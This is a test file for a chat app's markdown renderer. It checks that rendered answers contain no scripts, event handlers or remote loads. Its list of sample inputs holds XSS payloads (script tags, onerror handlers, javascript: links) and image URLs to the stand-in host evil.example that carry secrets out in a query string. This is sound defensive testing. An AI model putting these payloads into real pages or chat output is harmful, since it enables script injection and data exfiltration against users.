// What an answer may put on the page: its markdown, and nothing that runs, loads or calls home.
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { after, before, test } from "node:test";

const web = process.env.WEB_DIR;
const skip = web ? false : "the front end is not built";
const from = createRequire(join(web ?? "/", "package.json"));
let draw;
let dir;

before(async () => {
  if (!web) return;
  const { rolldown } = await import(createRequire(from.resolve("vite")).resolve("rolldown"));
  const entry = new URL("../../../ioverse_app/ui/transcript/markdown.jsx", import.meta.url).pathname;
  const bundle = await rolldown({
    input: entry,
    platform: "node",
    external: /^(react|react-dom|mermaid)($|\/)/,
    moduleTypes: { ".css": "empty" },
    resolve: { modules: [join(web, "node_modules")] },
  });
  dir = await mkdtemp(join(web, "node_modules", ".transcript-"));
  await bundle.write({ dir, format: "esm", entryFileNames: "markdown.mjs", chunkFileNames: "[name]-[hash].mjs" });
  const { default: Markdown, fetchFor } = await import(join(dir, "markdown.mjs"));
  const { createElement } = from("react");
  const { renderToStaticMarkup } = from("react-dom/server");
  globalThis.window = { location: { origin: "http://localhost:3000" } };
  draw = async (text, props) => {
    await fetchFor(text);
    return renderToStaticMarkup(createElement(Markdown, { text, id: "m", streaming: false, onDrawn() {}, ...props }));
  };
});

after(() => dir && rm(dir, { recursive: true }));

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT src=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)' onclick=alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1) 'title')",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](https://evil.example/leak.png?q=secret)",
  "![x](//evil.example/leak.png)",
  "![x][y]\n\n[y]: https://evil.example/leak.png",
  "<picture><source srcset='https://evil.example/a.png'><img src='https://evil.example/b.png'></picture>",
  "<div style=\"background:url('https://evil.example/c.png')\">x</div>",
  "<video poster='https://evil.example/d.png' src='https://evil.example/e.mp4' autoplay></video>",
  "<audio src='https://evil.example/f.mp3' autoplay></audio>",
  "<object data='https://evil.example'></object><embed src='https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/g.css'><style>@import 'https://evil.example/h.css'</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<form action='https://evil.example'><input name=q><button formaction='https://evil.example'>x</button></form>",
  "<input type=image src='https://evil.example/i.png'>",
  "<table background='https://evil.example/j.png'><tr><td background='https://evil.example/k.png'>x</td></tr></table>",
  "$$\\href{javascript:alert(1)}{x}$$",
  "$$\\includegraphics{https://evil.example/l.png} \\url{javascript:alert(1)}$$",
  "```html\n<script>alert(1)</script>\n```",
  "a[^1]\n\n[^1]: <img src=x onerror=alert(1)> ![x](https://evil.example/m.png)",
];

const forbidden =
  /<(script|iframe|svg onload|object|embed|link|style|meta|base|form|video|audio|picture|source|input (?!type="checkbox"|disabled))|<[^>]*\son\w+=|(href|src|action|srcset|poster|background|data)="\s*(javascript|data|vbscript):|<img[^>]*evil|url\(/i;

for (const text of hostile)
  for (const streaming of [false, true])
    test(`harmless${streaming ? " while it grows" : ""}: ${text}`, { skip }, async () => {
      for (let end = streaming ? 1 : text.length; end <= text.length; end += 7) {
        const html = (await draw(text.slice(0, end), { streaming })).replace(/ title="[^"]*"/g, "");
        assert.doesNotMatch(html, forbidden, html);
      }
    });

test("links open elsewhere and tell nothing", { skip }, async () => {
  const html = await draw("[x](https://example.org) <me@example.org>");
  assert.match(html, /<a href="https:\/\/example.org" rel="noopener noreferrer" target="_blank">x<\/a>/);
  assert.match(html, /href="mailto:me@example.org"/);
});

test("an image from elsewhere is a button that names its host; our own is shown", { skip }, async () => {
  const html = await draw("![chart](https://evil.example/a.png)\n\n![mine](/api/files/b.png)");
  assert.match(html, /<button[^>]*>.*Show image from evil.example<\/button>/);
  assert.match(html, /<img alt="mine"[^>]*src="http:\/\/localhost:3000\/api\/files\/b.png"/);
});

test("an own address that may redirect is no image of ours", { skip }, async () => {
  assert.doesNotMatch(await draw("![x](/login?next=//evil.example) ![y](/api/files/../../login)"), /<img/);
});

test("tables, tasks, nested lists, notes, code and formulas are drawn", { skip }, async () => {
  const html = await draw(
    "# Title\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n  1. inner\n\nSo $x^2$[^1] costs $5.\n\n```py\nx = 1\n```\n\n[^1]: Note.",
  );
  for (const part of [/<h1 dir="auto">Title/, /<table dir="auto">/, /type="checkbox"/, /<li>inner/, /class="katex"/, /costs \$5/, /Copy code/, /note-m-fn-1/])
    assert.match(html, part);
});

test("a regular expression is not a footnote: the text stays in blocks", { skip }, async () => {
  assert.match(await draw("one\n\n`[^a-z]`\n\ntwo"), /<p dir="auto">one<\/p><p dir="auto"><code>\[\^a-z\]<\/code><\/p>/);
});

test("a formula that cannot be read is shown as it was written, with a sentence", { skip }, async () => {
  const html = await draw("Broken: $$\\frac{1}{$$ and $$x^2$$.");
  assert.match(html, /<code>\\frac\{1\}\{<\/code> <small class="text-note">This formula could not be read\.<\/small>/);
  assert.match(html, /class="katex"/);
});

test("every block begins where its own letters do", { skip }, async () => {
  const html = await draw("مرحبا\n\n- one\n\n```py\nx\n```");
  assert.match(html, /<p dir="auto">مرحبا<\/p>/);
  assert.match(html, /<ul dir="auto"/);
  assert.match(html, /<figure class="text-code" dir="ltr">/);
});

test("pages and pictures can be tried, and nothing of them is on the page before", { skip }, async () => {
  assert.match(await draw("```html\n<b>x</b>\n```"), /Preview/);
  assert.match(await draw("```xml\n<svg xmlns='x'></svg>\n```"), /Preview/);
  assert.doesNotMatch(await draw("```xml\n<a/>\n```\n\n```js\nx\n```"), /Preview|<iframe/);
});

test("of a very long table the first rows are drawn, and the reader may ask for more", { skip }, async () => {
  const html = await draw(`| a | b |\n| - | - |\n${"| some text | more of it |\n".repeat(10_000)}\nAfter it.`);
  assert.equal(html.match(/<tr>/g).length, 301);
  assert.match(html, /9,700 rows more are not drawn yet\..*Show more/);
});

// The same list is read by the tests of exports: both must say the same.
const samples = JSON.parse(await readFile(new URL("../../rendering/samples.json", import.meta.url), "utf8"));

for (const { name, markdown, text } of samples)
  test(`what exports say as well: ${name}`, { skip }, async () => {
    const { parseFragment } = await import(from.resolve("parse5"));
    const html = await draw(markdown);
    assert.equal(said(parseFragment(html)).replace(/\s+/g, ""), text.replace(/\s+/g, ""), html);
  });

/** What a person reads: the words, formulas as ⟨TeX⟩, boxes as [x]. */
function said(node) {
  const attribute = (key) => node.attrs?.find((each) => each.name === key)?.value;
  const classes = (attribute("class") ?? "").split(" ");
  if (node.nodeName === "#text") return node.value;
  if (node.nodeName === "annotation") return `⟨${node.childNodes.map(said).join("")}⟩`;
  if (classes.includes("katex")) return find(node, "annotation").map(said).join("");
  if (["button", "figcaption"].includes(node.nodeName) || classes.includes("sr-only")) return "";
  if (attribute("data-footnote-backref") !== undefined) return "";
  if (node.nodeName === "input") return attribute("checked") === undefined ? "[ ] " : "[x] ";
  return (node.childNodes ?? []).map(said).join("");
}

function find(node, name) {
  return [...(node.nodeName === name ? [node] : []), ...(node.childNodes ?? []).flatMap((child) => find(child, name))];
}
